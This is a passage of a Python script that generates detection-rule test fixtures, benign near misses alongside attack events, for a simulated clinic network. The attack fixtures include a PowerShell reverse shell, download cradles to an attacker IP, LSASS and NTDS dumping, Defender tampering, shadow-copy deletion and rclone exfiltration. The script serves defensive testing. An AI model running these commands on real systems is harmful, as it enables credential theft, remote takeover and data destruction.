#!/usr/bin/env python3
"""Writes the rule pack's test cases to Tests/TocsinCommandsTests/Fixtures/rule-pack/.

Each pack rule NAME gets NAME.fires.jsonl (every event must fire that rule) and NAME.benign.jsonl (near misses
that must fire no pack rule at all), in the event shapes of /work/contract.md: Windows events in the evtx_dump
layout, Linux auditd/syslog and firewall flows as flat JSON. background.jsonl is the estate's ordinary day; only
the informational base rules of correlations may fire on it.

The cases are written here as a table so that they stay readable; the .jsonl files are what the tests read.
Run: python3 scripts/pack-fixtures.py   (re-writes every file; commit the result)
"""
import base64
import json
import os

OUT = os.path.join(os.path.dirname(__file__), "..", "Tests", "TocsinCommandsTests", "Fixtures", "rule-pack")
DOMAIN = "medsoft.local"
SYSMON = "Microsoft-Windows-Sysmon/Operational"
_clock = [0]


def _time():
    _clock[0] += 7
    seconds = _clock[0]
    return "2026-11-20T%02d:%02d:%02d.%03dZ" % (8 + seconds // 3600, seconds // 60 % 60, seconds % 60, seconds % 997)


def win(channel, provider, event_id, host, data=None, user_data=None):
    """One Windows event in the evtx_dump layout."""
    system = {
        "Provider": {"#attributes": {"Name": provider}},
        "EventID": event_id,
        "TimeCreated": {"#attributes": {"SystemTime": _time()}},
        "EventRecordID": 1000 + _clock[0],
        "Channel": channel,
        "Computer": host if "." in host or host == "" else host + "." + DOMAIN,
    }
    event = {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"}, "System": system}
    if data is not None:
        event["EventData"] = data
    if user_data is not None:
        event["UserData"] = user_data
    return {"Event": event}


def sysmon(event_id, host, **data):
    return win(SYSMON, "Microsoft-Windows-Sysmon", event_id, host, data)


def proc(host, image, command_line, parent="C:\\Windows\\explorer.exe", user="MEDSOFT\\mfischer", **extra):
    """Sysmon 1 process creation."""
    data = {"UtcTime": _time().replace("T", " ").rstrip("Z"), "Image": image, "CommandLine": command_line,
            "ParentImage": parent, "User": user, "IntegrityLevel": "High"}
    data.update(extra)
    return sysmon(1, host, **data)


def security(event_id, host, **data):
    return win("Security", "Microsoft-Windows-Security-Auditing", event_id, host, data)


def service(host, name, image_path):
    """System 7045 service installed."""
    return win("System", "Service Control Manager", {"#attributes": {"Qualifiers": 16384}, "#text": 7045}, host,
               {"ServiceName": name, "ImagePath": image_path, "ServiceType": "user mode service",
                "StartType": "demand start", "AccountName": "LocalSystem"})


def file_event(host, image, target):
    return sysmon(11, host, Image=image, TargetFilename=target, User="MEDSOFT\\mfischer")


def linux_exec(host, image, command_line, parent="/usr/bin/bash", user="root", pid=4242):
    return {"timestamp": _time(), "host": host, "product": "linux", "service": "auditd", "type": "EXECVE",
            "Image": image, "CommandLine": command_line, "ParentImage": parent, "User": user, "ProcessId": pid}


def linux_path(host, target, image, user="root"):
    return {"timestamp": _time(), "host": host, "product": "linux", "service": "auditd", "type": "PATH",
            "TargetFilename": target, "Image": image, "User": user}


def syslog(host, program, message):
    return {"timestamp": _time(), "host": host, "product": "linux", "service": "syslog", "program": program,
            "message": message}


def flow(src_ip, src_host, dst_ip, dst_port, bytes_out, bytes_in=4096, action="allow"):
    return {"timestamp": _time(), "host": "fw01", "product": "firewall", "src_ip": src_ip, "src_host": src_host,
            "dst_ip": dst_ip, "dst_port": dst_port, "protocol": "tcp", "bytes_out": bytes_out,
            "bytes_in": bytes_in, "action": action}


def script_block(host, text):
    """PowerShell/Operational 4104 script block."""
    return win("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, host,
               {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": text, "ScriptBlockId": "5d2c"})


def encoded(script):
    return base64.b64encode(script.encode("utf-16-le")).decode()


PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
SYS32 = "C:\\Windows\\System32\\"
PUBLIC = "C:\\Users\\Public\\"
PRAXIS = "C:\\Program Files\\MedSoft\\Praxis\\"
ATTACKER = "185.220.101.47"
ENC = encoded("$client = New-Object Net.WebClient; $client.DownloadString('http://185.220.101.47/a') | iex")
REVERSE = ("$client = New-Object System.Net.Sockets.TCPClient('185.220.101.47',4444);$stream = $client.GetStream();"
           "[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;"
           "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);"
           "$sendback = (iex $data 2>&1 | Out-String );$stream.Write(([text.encoding]::ASCII).GetBytes($sendback),0,"
           "$sendback.Length);$stream.Flush()};$client.Close()")
TASK_XML = ('<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" '
            'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Triggers><TimeTrigger><Repetition>'
            '<Interval>PT1M</Interval></Repetition></TimeTrigger></Triggers><Actions Context="Author"><Exec>'
            '<Command>%s</Command></Exec></Actions></Task>')


def cases():
    """rule name -> (events that fire it, near misses that fire no pack rule)."""
    return {
        "lsass_dump_cmdline": (
            [proc("WS-0007", SYS32 + "rundll32.exe",
                  "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\Windows\\Temp\\lsass.dmp full",
                  parent=CMD, user="NT AUTHORITY\\SYSTEM"),
             proc("APP01", SYS32 + "rundll32.exe", "rundll32 comsvcs.dll #24 624 C:\\Temp\\x.bin full", parent=CMD),
             proc("APP01", "C:\\Tools\\procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp",
                  parent=CMD)],
            [proc("WS-0007", SYS32 + "rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL desk.cpl"),
             proc("APP01", "C:\\Tools\\procdump64.exe", "procdump64.exe -ma praxissrv.exe C:\\Temp\\praxissrv.dmp",
                  parent=CMD)]),
        "lsass_memory_access": (
            [sysmon(10, "WS-0007", SourceImage=PUBLIC + "svchost.exe", TargetImage=SYS32 + "lsass.exe",
                    GrantedAccess="0x1fffff", SourceProcessId=5120, TargetProcessId=672),
             sysmon(10, "APP01", SourceImage=SYS32 + "rundll32.exe", TargetImage=SYS32 + "lsass.exe",
                    GrantedAccess="0x1010")],
            [sysmon(10, "WS-0007", SourceImage="C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11"
                    "-0\\MsMpEng.exe", TargetImage=SYS32 + "lsass.exe", GrantedAccess="0x1fffff"),
             sysmon(10, "WS-0007", SourceImage=SYS32 + "svchost.exe", TargetImage=SYS32 + "lsass.exe",
                    GrantedAccess="0x1410"),
             sysmon(10, "WS-0007", SourceImage=PUBLIC + "tool.exe", TargetImage=SYS32 + "lsass.exe",
                    GrantedAccess="0x1000")]),
        "lsass_dump_file_created": (
            [file_event("WS-0007", SYS32 + "rundll32.exe", "C:\\Windows\\Temp\\lsass.dmp")],
            [file_event("WS-0007", SYS32 + "WerFault.exe",
                        "C:\\Windows\\System32\\config\\systemprofile\\AppData\\Local\\CrashDumps\\lsass.exe.672.dmp"),
             file_event("WS-0007", PRAXIS + "praxis.exe", "C:\\Users\\mfischer\\AppData\\Local\\Temp\\praxis.dmp")]),
        "ntds_extraction": (
            [proc("DC01", SYS32 + "ntdsutil.exe",
                  'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ifm" q q', parent=CMD),
             proc("DC01", CMD, "cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS"
                  "\\ntds.dit C:\\Windows\\Temp\\n.dit", parent=PS)],
            [proc("DC01", SYS32 + "ntdsutil.exe", 'ntdsutil.exe "ac i ntds" "files" "info" q q', parent=CMD)]),
        "sam_hive_export": (
            [proc("APP01", SYS32 + "reg.exe", "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save", parent=CMD),
             proc("APP01", SYS32 + "reg.exe", "reg save hklm\\system C:\\Windows\\Temp\\sys.save /y", parent=CMD),
             proc("APP01", CMD, "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy2\\Windows\\System32"
                  "\\config\\SAM C:\\Temp\\s", parent=PS)],
            [proc("APP01", SYS32 + "reg.exe", "reg.exe export HKLM\\SOFTWARE\\MedSoft C:\\Temp\\medsoft.reg"),
             proc("APP01", SYS32 + "reg.exe", "reg query HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip"),
             proc("APP01", SYS32 + "reg.exe",
                  "reg export HKLM\\SYSTEM\\CurrentControlSet\\Services\\PraxisSrv C:\\Temp\\svc.reg")]),
        "kerberos_rc4_service_ticket": (
            [security(4769, "DC01", TargetUserName="mfischer@MEDSOFT.LOCAL", ServiceName="svc_sql",
                      TicketEncryptionType="0x17", IpAddress="::ffff:10.20.3.42", Status="0x0")],
            [security(4769, "DC01", TargetUserName="mfischer@MEDSOFT.LOCAL", ServiceName="svc_sql",
                      TicketEncryptionType="0x12", IpAddress="::ffff:10.20.3.42", Status="0x0"),
             security(4769, "DC01", TargetUserName="WS-0042$@MEDSOFT.LOCAL", ServiceName="DC01$",
                      TicketEncryptionType="0x17", IpAddress="::ffff:10.20.3.42", Status="0x0")]),
        "failed_logon": (
            [security(4625, "APP01", TargetUserName="administrator", LogonType=3, IpAddress="10.20.3.42",
                      WorkstationName="WS-0042", Status="0xc000006d")],
            [security(4624, "APP01", TargetUserName="mfischer", LogonType=3, IpAddress="10.20.3.42",
                      WorkstationName="WS-0042")]),
        "external_remote_logon": (
            [security(4624, "APP01", TargetUserName="svc_vpn", LogonType=10, IpAddress=ATTACKER,
                      WorkstationName="KALI")],
            [security(4624, "APP01", TargetUserName="admin.krause", LogonType=10, IpAddress="10.20.5.11",
                      WorkstationName="ADM-01"),
             security(4624, "APP01", TargetUserName="mfischer", LogonType=3, IpAddress="10.20.3.42",
                      WorkstationName="WS-0042"),
             security(4624, "WS-0042", TargetUserName="mfischer", LogonType=2, IpAddress="127.0.0.1",
                      WorkstationName="WS-0042"),
             security(4624, "APP01", TargetUserName="svc_vpn", LogonType=10, IpAddress="-", WorkstationName="-")]),
        "office_spawns_shell": (
            [proc("WS-0042", PS, "powershell.exe -nop -w hidden -enc " + ENC,
                  parent="C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
             proc("WS-0042", CMD, "cmd.exe /c whoami",
                  parent="C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE")],
            [proc("WS-0042", SYS32 + "splwow64.exe", "splwow64.exe 8192",
                  parent="C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
             proc("WS-0042", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                  '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "D:\\Shares\\Brief.docx"')]),
        "powershell_encoded_command": (
            [proc("WS-0042", PS, "powershell.exe -nop -w hidden -enc " + ENC, parent=CMD),
             proc("WS-0042", "C:\\Program Files\\PowerShell\\7\\pwsh.exe", "pwsh.exe -EncodedCommand " + ENC,
                  parent=CMD)],
            [proc("WS-0042", PS, "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\check.ps1"),
             proc("WS-0042", PS, 'powershell.exe -Command "Get-Service PraxisSrv"')]),
        "powershell_download_cradle": (
            [proc("WS-0042", PS, "powershell.exe -nop -w hidden -c \"IEX(New-Object Net.WebClient).downloadString("
                  "'http://185.220.101.47/a.ps1')\"", parent=CMD),
             proc("WS-0042", PS, "powershell.exe -noni -nop -w hidden -c &([scriptblock]::create((New-Object "
                  "System.IO.StreamReader(New-Object System.IO.Compression.GzipStream((New-Object System.IO.MemoryStream"
                  "(,[System.Convert]::FromBase64String('H4sIAAAAAAAA'))),[System.IO.Compression.CompressionMode]::"
                  "Decompress))).ReadToEnd()))", parent=CMD)],
            [proc("WS-0042", PS, "powershell.exe -c \"(New-Object Net.WebClient).DownloadFile('https://updates.medsoft"
                  ".local/praxis.msi', 'C:\\Temp\\praxis.msi')\""),
             proc("WS-0042", PS, "powershell.exe -c [Convert]::FromBase64String($env:CERT) | Set-Content cert.der")]),
        "powershell_download_cradle_scriptblock": (
            [script_block("WS-0042", "IEX(New-Object Net.WebClient).downloadString('https://185.220.101.47/1.png')")],
            [script_block("WS-0042", "$wc = New-Object Net.WebClient; $wc.DownloadFile('https://updates.medsoft.local"
                          "/praxis.msi', 'C:\\Temp\\praxis.msi')")]),
        "powershell_reverse_shell": (
            [proc("WS-0042", PS, 'powershell.exe -nop -c "' + REVERSE + '"', parent=CMD),
             proc("WS-0042", PS, "powershell.exe -enc " +
                  encoded("$c = New-Object Net.Sockets.TCPClient('185.220.101.47',4444)"), parent=CMD)],
            [proc("WS-0042", PS, 'powershell.exe -Command "Test-NetConnection -ComputerName SQL01 -Port 1433"')]),
        "powershell_reverse_shell_scriptblock": (
            [win("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, "WS-0042",
                 {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": REVERSE, "ScriptBlockId": "7c1e"})],
            [win("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, "WS-0042",
                 {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockId": "7c1f", "ScriptBlockText":
                  "$c = New-Object System.Net.Sockets.TcpClient; $c.Connect('SQL01', 1433); $c.Close()"})]),
        "netcat_reverse_shell_windows": (
            [proc("WS-0042", PUBLIC + "ncat.exe", "ncat.exe 185.220.101.47 4444 -e cmd.exe", parent=CMD)],
            [proc("WS-0042", "C:\\Tools\\ncat.exe", "ncat.exe -zv 10.20.9.10 443", parent=CMD)]),
        "psexec_service_installed": (
            [service("FS01", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
             security(4697, "SQL01", ServiceName="PSEXESVC", ServiceFileName="%SystemRoot%\\PSEXESVC.exe",
                      ServiceType="0x10", ServiceStartType="3", ServiceAccount="LocalSystem")],
            [service("BKP01", "VeeamDeploySvc",
                     '"C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Service.exe"'),
             service("WS-0042", "MpKslDrv", "\\??\\C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates"
                     "\\{5A1B}\\MpKslDrv.sys")]),
        "wmi_spawns_shell": (
            [proc("FS01", CMD, "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1700000000 2>&1",
                  parent=SYS32 + "wbem\\WmiPrvSE.exe")],
            [proc("FS01", SYS32 + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding",
                  parent=SYS32 + "svchost.exe", user="NT AUTHORITY\\NETWORK SERVICE")]),
        "winrm_spawns_shell": (
            [proc("SQL01", PS, "powershell.exe", parent=SYS32 + "wsmprovhost.exe")],
            [proc("SQL01", SYS32 + "wsmprovhost.exe", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
                  parent=SYS32 + "svchost.exe")]),
        "service_from_user_folder": (
            [service("FS01", "UpdSvc", PUBLIC + "updsvc.exe"),
             security(4697, "SQL01", ServiceName="UpdSvc", ServiceFileName=PUBLIC + "updsvc.exe",
                      ServiceType="0x10", ServiceStartType="2", ServiceAccount="LocalSystem"),
             service("APP01", "WinSvcHelper", "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -c iex")],
            [service("SQL01", "PraxisSrv", '"' + PRAXIS + 'praxissrv.exe" /service'),
             service("WS-0042", "MpKslDrv", "\\??\\C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates"
                     "\\{5A1B}\\MpKslDrv.sys")]),
        "scheduled_task_user_folder": (
            [proc("WS-0042", SYS32 + "schtasks.exe", 'schtasks /create /tn "MicrosoftEdgeUpdateTaskCore" /tr '
                  'C:\\Users\\Public\\update.exe /sc minute', parent=CMD)],
            [proc("WS-0042", SYS32 + "schtasks.exe", 'schtasks /query /tn "MicrosoftEdgeUpdateTaskCore"'),
             proc("SQL01", SYS32 + "schtasks.exe", 'schtasks /create /tn "PraxisNightly" /tr "\\"' + PRAXIS +
                  'praxissrv.exe\\" /maintenance" /sc daily /st 02:00', parent=CMD)]),
        "scheduled_task_user_folder_audit": (
            [security(4698, "WS-0042", TaskName="\\MicrosoftEdgeUpdateTaskCore", SubjectUserName="mfischer",
                      TaskContent=TASK_XML % "C:\\Users\\Public\\update.exe"),
             security(4698, "APP01", TaskName="\\bouWFQYO", SubjectUserName="svc_vpn",
                      TaskContent=TASK_XML % "cmd.exe</Command><Arguments>/C whoami &gt; %windir%\\Temp\\bouWFQYO.tmp"
                      " 2&gt;&amp;1</Arguments><Command>")],
            [security(4698, "WS-0042", TaskName="\\MicrosoftEdgeUpdateTaskMachineCore", SubjectUserName="SYSTEM",
                      TaskContent=TASK_XML % "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe")]),
        "run_key_user_folder": (
            [sysmon(13, "WS-0042", EventType="SetValue", Image=SYS32 + "reg.exe",
                    TargetObject="HKU\\S-1-5-21-1004336348-1177238915-682003330-1105\\Software\\Microsoft\\Windows"
                    "\\CurrentVersion\\Run\\EdgeUpdate", Details=PUBLIC + "update.exe")],
            [sysmon(13, "WS-0042", EventType="SetValue",
                    Image="C:\\Users\\mfischer\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
                    TargetObject="HKU\\S-1-5-21-1004336348-1177238915-682003330-1105\\Software\\Microsoft\\Windows"
                    "\\CurrentVersion\\Run\\OneDrive",
                    Details='"C:\\Users\\mfischer\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background'),
             sysmon(13, "WS-0042", EventType="SetValue",
                    Image="C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
                    TargetObject="HKU\\S-1-5-21-1004336348-1177238915-682003330-1105\\Software\\Microsoft\\Windows"
                    "\\CurrentVersion\\Run\\MicrosoftEdgeAutoLaunch_0A1B",
                    Details='"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" '
                    '--no-startup-window --win-session-start')]),
        "wmi_subscription_cmdline": (
            [proc("APP01", SYS32 + "wbem\\WMIC.exe", 'wmic /namespace:\\\\root\\subscription PATH __EventFilter '
                  'CREATE Name="upd", EventNameSpace="root\\cimv2", QueryLanguage="WQL", Query="SELECT * FROM '
                  '__InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA \'Win32_PerfFormattedData_PerfOS'
                  '_System\'"', parent=CMD),
             proc("APP01", SYS32 + "wbem\\WMIC.exe", 'wmic /namespace:\\\\root\\subscription PATH '
                  'CommandLineEventConsumer CREATE Name="upd", CommandLineTemplate="C:\\Users\\Public\\update.exe"',
                  parent=CMD)],
            [proc("APP01", SYS32 + "wbem\\WMIC.exe", "wmic /namespace:\\\\root\\cimv2 path Win32_Process get Name"),
             proc("APP01", SYS32 + "wbem\\WMIC.exe", "wmic qfe list brief")]),
        "wmi_subscription_created": (
            [sysmon(19, "APP01", EventType="WmiFilterEvent", Operation="Created", User="MEDSOFT\\svc_backup2",
                    EventNamespace='"root\\\\cimv2"', Name='"upd"',
                    Query='"SELECT * FROM __InstanceModificationEvent WITHIN 60"'),
             sysmon(20, "APP01", EventType="WmiConsumerEvent", Operation="Created", User="MEDSOFT\\svc_backup2",
                    Name='"upd"', Type="Command Line", Destination='"C:\\\\Users\\\\Public\\\\update.exe"'),
             sysmon(21, "APP01", EventType="WmiBindingEvent", Operation="Created", User="MEDSOFT\\svc_backup2",
                    Consumer='"CommandLineEventConsumer.Name=\\"upd\\""', Filter='"__EventFilter.Name=\\"upd\\""')],
            [sysmon(19, "APP01", EventType="WmiFilterEvent", Operation="Created", User="NT AUTHORITY\\SYSTEM",
                    EventNamespace='"root\\\\cimv2"', Name='"SCM Event Log Filter"',
                    Query='"select * from MSFT_SCMEventLogEvent"')]),
        "local_account_cmdline": (
            [proc("APP01", SYS32 + "net.exe", "net user svc_backup2 P@ssw0rd2026! /add", parent=CMD),
             proc("APP01", SYS32 + "net.exe", "net localgroup administrators svc_backup2 /add", parent=CMD),
             proc("APP01", SYS32 + "net1.exe", "C:\\Windows\\system32\\net1 user svc_backup2 P@ssw0rd2026! /add",
                  parent=SYS32 + "net.exe")],
            [proc("APP01", SYS32 + "net.exe", "net user svc_backup /domain"),
             proc("APP01", SYS32 + "net.exe", "net localgroup administrators")]),
        "user_account_created": (
            [security(4720, "APP01", TargetUserName="svc_backup2", TargetDomainName="APP01",
                      SubjectUserName="svc_vpn", SamAccountName="svc_backup2")],
            [security(4722, "APP01", TargetUserName="svc_backup", TargetDomainName="APP01",
                      SubjectUserName="admin.krause")]),
        "admin_group_member_added": (
            [security(4732, "APP01", MemberName="-", MemberSid="S-1-5-21-1004336348-1177238915-682003330-1105",
                      TargetUserName="Administrators", TargetDomainName="Builtin", TargetSid="S-1-5-32-544",
                      SubjectUserName="svc_vpn"),
             security(4732, "APP01", MemberName="-", MemberSid="S-1-5-21-1004336348-1177238915-682003330-1106",
                      TargetUserName="Administrators", TargetDomainName="Builtin", SubjectUserName="svc_vpn")],
            [security(4732, "APP01", MemberName="-", MemberSid="S-1-5-21-1004336348-1177238915-682003330-1107",
                      TargetUserName="Remote Desktop Users", TargetDomainName="Builtin", TargetSid="S-1-5-32-555",
                      SubjectUserName="admin.krause")]),
        "event_log_cleared": (
            [win("Security", "Microsoft-Windows-Eventlog", 1102, "FS01", user_data={"LogFileCleared": {
                "SubjectUserSid": "S-1-5-21-1", "SubjectUserName": "svc_vpn", "SubjectDomainName": "MEDSOFT"}}),
             win("System", "Microsoft-Windows-Eventlog", 104, "FS01", user_data={"LogFileCleared": {
                 "SubjectUserName": "svc_vpn", "SubjectDomainName": "MEDSOFT", "Channel": "System"}})],
            [win("Security", "Microsoft-Windows-Eventlog", 1100, "FS01", user_data={"ServiceShutdown": {}}),
             win("System", "EventLog", 6005, "FS01", data={})]),
        "event_log_clear_cmdline": (
            [proc("FS01", SYS32 + "wevtutil.exe", "wevtutil cl Security", parent=CMD),
             proc("FS01", PS, "powershell.exe Clear-EventLog -LogName System", parent=CMD)],
            [proc("FS01", SYS32 + "wevtutil.exe", "wevtutil qe Security /c:5 /f:text"),
             proc("FS01", SYS32 + "wevtutil.exe", "wevtutil gl Security")]),
        "defender_tampering_cmdline": (
            [proc("FS01", PS, "powershell Set-MpPreference -DisableRealtimeMonitoring $true", parent=CMD),
             proc("FS01", SYS32 + "sc.exe", "sc stop WinDefend", parent=CMD),
             proc("FS01", SYS32 + "reg.exe", 'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v '
                  'DisableAntiSpyware /t REG_DWORD /d 1 /f', parent=CMD),
             proc("FS01", PS, "powershell -c Add-MpPreference -ExclusionPath C:\\Users\\Public", parent=CMD)],
            [proc("FS01", "C:\\Program Files\\Windows Defender\\MpCmdRun.exe",
                  '"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -Scan -ScanType 1',
                  parent=SYS32 + "svchost.exe", user="NT AUTHORITY\\SYSTEM"),
             proc("FS01", PS, "powershell Get-MpPreference"),
             proc("FS01", PS, "powershell Update-MpSignature")]),
        "defender_tampering_scriptblock": (
            [script_block("FS01", "Set-MpPreference -DisableRealtimeMonitoring $true"),
             script_block("FS01", "Add-MpPreference -ExclusionPath 'C:\\Users\\Public'")],
            [script_block("FS01", "Get-MpPreference | Select-Object DisableRealtimeMonitoring"),
             script_block("FS01", "Set-MpPreference -SignatureUpdateInterval 4")]),
        "shadow_copy_deletion_scriptblock": (
            [script_block("FS01", "Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}"),
             script_block("FS01", "Get-CimInstance Win32_ShadowCopy | Remove-CimInstance")],
            [script_block("FS01", "Get-WmiObject Win32_ShadowCopy | Select-Object ID, InstallDate")]),
        "defender_realtime_disabled": (
            [win("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 5001, "FS01",
                 {"Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18.24090.11"})],
            [win("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 1000, "FS01",
                 {"Product Name": "Microsoft Defender Antivirus", "Scan Type": "Antimalware"}),
             win("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 5000, "FS01",
                 {"Product Name": "Microsoft Defender Antivirus"})]),
        "backup_agent_stopped": (
            [proc("BKP01", SYS32 + "net.exe", "net stop VeeamBackupSvc", parent=CMD),
             proc("BKP01", SYS32 + "sc.exe", "sc config VeeamBackupSvc start= disabled", parent=CMD),
             proc("FS01", SYS32 + "net.exe", "net stop vss /y", parent=CMD)],
            [proc("BKP01", SYS32 + "sc.exe", "sc.exe stop VeeamDeploySvc",
                  parent="C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Service.exe",
                  user="NT AUTHORITY\\SYSTEM"),
             proc("BKP01", SYS32 + "sc.exe", "sc query VeeamBackupSvc"),
             proc("WS-0042", SYS32 + "net.exe", "net stop Spooler")]),
        "shadow_copy_deletion": (
            [proc("FS01", SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", parent=CMD),
             proc("FS01", SYS32 + "wbem\\WMIC.exe", "wmic shadowcopy delete", parent=CMD),
             proc("FS01", PS, 'powershell "Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}"',
                  parent=CMD),
             proc("FS01", SYS32 + "vssadmin.exe", "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB",
                  parent=CMD)],
            [proc("FS01", SYS32 + "vssadmin.exe", "vssadmin.exe list shadows"),
             proc("SQL01", SYS32 + "vssadmin.exe", "vssadmin create shadow /for=D:",
                  parent="C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe",
                  user="NT AUTHORITY\\SYSTEM"),
             proc("FS01", SYS32 + "wbem\\WMIC.exe", "wmic shadowcopy list brief")]),
        "backup_catalog_deletion": (
            [proc("FS01", SYS32 + "wbadmin.exe", "wbadmin delete catalog -quiet", parent=CMD),
             proc("DC01", SYS32 + "wbadmin.exe", "wbadmin delete systemstatebackup -keepversions:0", parent=CMD)],
            [proc("FS01", SYS32 + "wbadmin.exe", "wbadmin get versions"),
             proc("FS01", SYS32 + "wbadmin.exe", "wbadmin start backup -backupTarget:E: -include:D: -quiet")]),
        "recovery_disabled": (
            [proc("FS01", SYS32 + "bcdedit.exe", "bcdedit /set {default} recoveryenabled no", parent=CMD),
             proc("FS01", SYS32 + "bcdedit.exe", "bcdedit /set {default} bootstatuspolicy ignoreallfailures",
                  parent=CMD),
             proc("FS01", SYS32 + "ReAgentc.exe", "reagentc /disable", parent=CMD)],
            [proc("FS01", SYS32 + "bcdedit.exe", "bcdedit /enum"),
             proc("FS01", SYS32 + "bcdedit.exe", "bcdedit /set {default} recoveryenabled yes"),
             proc("FS01", SYS32 + "ReAgentc.exe", "reagentc /info")]),
        "ransom_note_created": (
            [file_event("FS01", PUBLIC + "svchost.exe", "D:\\Shares\\Abrechnung\\README_RESTORE.txt"),
             file_event("WS-0042", PUBLIC + "svchost.exe", "C:\\Users\\mfischer\\Desktop\\HOW_TO_DECRYPT.html")],
            [file_event("WS-0042", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                        "C:\\Users\\mfischer\\Documents\\README.txt")]),
        "file_write_ransom_extension": (
            [file_event("FS01", PUBLIC + "svchost.exe", "D:\\Shares\\Abrechnung\\Q3-2026.xlsx.medlock"),
             file_event("WS-0042", PUBLIC + "svchost.exe", "C:\\Users\\mfischer\\Documents\\Brief.docx.locked")],
            [file_event("WS-0042", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                        "C:\\Users\\mfischer\\Documents\\Brief.docx"),
             file_event("WS-0042", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                        "C:\\Users\\mfischer\\Documents\\locked-notes.txt")]),
        "file_write_share_folder": (
            [file_event("FS01", "System", "D:\\Shares\\Praxis\\Dienstplan.xlsx")],
            [file_event("WS-0042", "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                        "C:\\Users\\mfischer\\Documents\\Dienstplan.xlsx")]),
        "rclone_cloud_copy": (
            [proc("FS01", PUBLIC + "rclone.exe", "rclone.exe copy C:\\Users\\Public\\p.7z mega:backup/p", parent=CMD),
             proc("FS01", PUBLIC + "svcupd.exe", "svcupd.exe copy D:\\Shares mega:s --transfers 8", parent=CMD)],
            [proc("FS01", PUBLIC + "rclone.exe", "rclone.exe version"),
             proc("FS01", PUBLIC + "rclone.exe", "rclone.exe lsd mega:")]),
        "archive_encrypted_staging": (
            [proc("SQL01", PUBLIC + "7z.exe", "7z.exe a -pS3cret2026 C:\\Users\\Public\\p.7z D:\\PraxisDB",
                  parent=CMD),
             proc("SQL01", "C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a C:\\Users\\Public\\db.7z D:\\PraxisDB\\",
                  parent=CMD)],
            [proc("WS-0042", "C:\\Program Files\\7-Zip\\7z.exe",
                  "7z.exe x C:\\Users\\mfischer\\Downloads\\tools.zip -oC:\\Tools"),
             proc("WS-0042", "C:\\Program Files\\7-Zip\\7z.exe",
                  "7z.exe a C:\\Users\\mfischer\\Documents\\fotos.7z C:\\Users\\mfischer\\Pictures")]),
        "praxis_db_file_copied": (
            [file_event("SQL01", PUBLIC + "7z.exe", "C:\\Users\\Public\\db\\praxis.mdf"),
             file_event("SQL01", SYS32 + "Robocopy.exe", "C:\\Users\\Public\\db\\praxis_log.ldf"),
             file_event("SQL01", PUBLIC + "svchost.exe", "D:\\PraxisDB\\praxis.mdf.medlock")],
